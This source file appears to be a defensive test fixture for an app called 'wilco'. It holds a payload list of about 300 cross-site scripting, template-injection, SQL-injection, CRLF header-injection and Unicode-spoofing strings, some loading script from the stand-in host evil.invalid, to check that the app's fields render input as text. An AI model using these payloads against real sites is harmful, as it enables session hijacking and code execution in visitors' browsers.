// What an attacker would write into every field that wilco shows. Each payload would set `window.executed`, open a
// dialog, change the document or ask another host, if a page took it for anything but text.

const RUN = "window.executed=1;alert(1)";
const URLS = "//evil.invalid/";

const MARKUP = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=${URLS}x.js></script>`,
  `<script type=module>import("${URLS}x.js")</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=${URLS}x.png>`,
  `<image src=x onerror="${RUN}">`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.executed=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<body onload="${RUN}">`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}">`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus="${RUN}"></select>`,
  `<button popovertarget=x autofocus onfocus="${RUN}">x</button>`,
  `<style>@import "${URLS}x.css";</style>`,
  `<link rel=stylesheet href=${URLS}x.css>`,
  `<link rel=prefetch href=${URLS}x>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=http:${URLS}">`,
  `<base href="http:${URLS}">`,
  `<form action="http:${URLS}"><button autofocus>x</button></form>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<div hx-get="/logout" hx-trigger="load">x</div>`,
  `<div hx-on:load="${RUN}" hx-on::after-request="${RUN}">x</div>`,
  `<div data-hx-get="http:${URLS}" data-hx-trigger="load">x</div>`,
  `<div hx-vals='js:{a: ${RUN}}' hx-post="/settings" hx-trigger="load">x</div>`,
];

/// What ends the place that the text may be in: an attribute, an element, a comment, a script.
const ENDS = ["", `">`, `'>`, "</title></textarea>", "</code></pre>", "</script>", "-->"];

const ATTRIBUTES = [
  `" onmouseover="${RUN}" x="`,
  `' onmouseover='${RUN}' x='`,
  `" autofocus onfocus="${RUN}`,
  `x onfocus=${RUN} autofocus`,
  `" style="background:url(http:${URLS})" x="`,
  `" hx-get="/logout" hx-trigger="load" x="`,
  `"><a accesskey=x href="javascript:${RUN}`,
];

const URL_VALUES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript://%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg onload="${RUN}"/>`,
  `vbscript:msgbox(1)`,
  `http:${URLS}`,
  URLS,
  `\\\\evil.invalid\\x`,
  `/\\evil.invalid/x`,
  `https://evil.invalid@127.0.0.1/`,
  `../../../logout`,
  `%2e%2e%2flogout`,
];

const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `{{ ''.__class__.__mro__ }}`,
  `{{7*7}}`,
  `{% import os %}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `[[${RUN}]]`,
  `@{${RUN}}`,
];

const ENCODED = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
  `＜script＞${RUN}＜/script＞`,
  `\u2039script\u203a${RUN}`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `<scr\u200bipt>${RUN}</scr\u200bipt>`,
  `<img\u000bsrc=x\u000conerror=${RUN}>`,
  `<script\u2028>${RUN}</script>`,
  `<script\r\n>${RUN}</script\r\n>`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<svg/onload=${RUN}//`,
  `<img src=x onerror=${RUN} `,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
];

const CHARACTERS = [
  "\u202eevil\u202c",
  "\u2066\u202egnp.exe\u2069",
  "\u0000",
  "a\u0000b",
  "\u001b[31mred\u001b[0m",
  "\ufeff",
  "\u2028\u2029",
  "\ud83d",
  "\udc00\ud800",
  "👩‍👩‍👧‍👦".repeat(40),
  "\u0301".repeat(200),
  "ﷺ".repeat(60),
  "W".repeat(4000),
  "<b>".repeat(500),
  "a ".repeat(2000),
  "' OR 1=1 --",
  "%00%0d%0aset-cookie: a=b",
  "\r\nset-cookie: a=b\r\n\r\n<script>alert(1)</script>",
];

/// At least 300 of them, each different.
export const PAYLOADS = [
  ...ENDS.flatMap((end) => MARKUP.map((markup) => end + markup)),
  ...ATTRIBUTES,
  ...URL_VALUES,
  ...TEMPLATES,
  ...ENCODED,
  ...CHARACTERS,
];
